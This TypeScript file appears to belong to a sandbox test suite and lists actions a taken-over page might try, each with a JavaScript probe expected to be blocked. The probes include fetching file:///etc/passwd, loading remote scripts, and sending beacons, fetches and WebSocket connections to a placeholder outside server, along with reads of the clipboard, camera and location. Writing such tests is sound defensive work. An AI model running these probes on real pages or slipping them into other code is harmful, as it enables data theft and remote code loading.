/**
 * What a page that was taken over might try: what it is, and code that ends without throwing if it is let.
 *
 * `OUTSIDE` stands for the address of a server that waits to be asked. See `tryInPage`.
 */
export const blockedAttempts: readonly (readonly [what: string, code: string])[] = [
  ["new Function", `return String(new Function("return 1")());`],
  ["eval", `return String((0, eval)("1"));`],
  [
    "a worker made of text",
    `await new Promise((done, failed) => { const w = new Worker(URL.createObjectURL(new Blob(["1"]))); w.onerror = () => failed(new Error("blocked")); setTimeout(done, 1500); });`,
  ],
  [
    "a script from elsewhere",
    `await new Promise((done, failed) => { const s = document.createElement("script"); s.src = "OUTSIDE/s.js"; s.onload = done; s.onerror = () => failed(new Error("blocked")); document.head.append(s); });`,
  ],
  [
    "a picture from elsewhere",
    `await new Promise((done, failed) => { const i = new Image(); i.onload = done; i.onerror = () => failed(new Error("blocked")); i.src = "OUTSIDE/i.png"; });`,
  ],
  ["a request elsewhere", `await fetch("OUTSIDE/f");`],
  ["a request elsewhere without reading", `await fetch("OUTSIDE/g", { mode: "no-cors" });`],
  [
    "a web socket",
    `await new Promise((done, failed) => { const s = new WebSocket("OUTSIDE/w".replace("http", "ws")); s.onopen = done; s.onerror = () => failed(new Error("blocked")); });`,
  ],
  [
    "a beacon",
    `if (!navigator.sendBeacon("OUTSIDE/b")) throw new Error("blocked"); await new Promise((done) => setTimeout(done, 300)); throw new Error("judged by what the server was asked");`,
  ],
  ["a file", `await fetch("file:///etc/passwd");`],
  ["an app address of another host", `await fetch("app://other/index.html");`],
  ["the camera", `await navigator.mediaDevices.getUserMedia({ video: true });`],
  [
    "where the machine is",
    `await new Promise((done, failed) => navigator.geolocation.getCurrentPosition(done, failed));`,
  ],
  ["the clipboard", `await navigator.clipboard.readText();`],
];
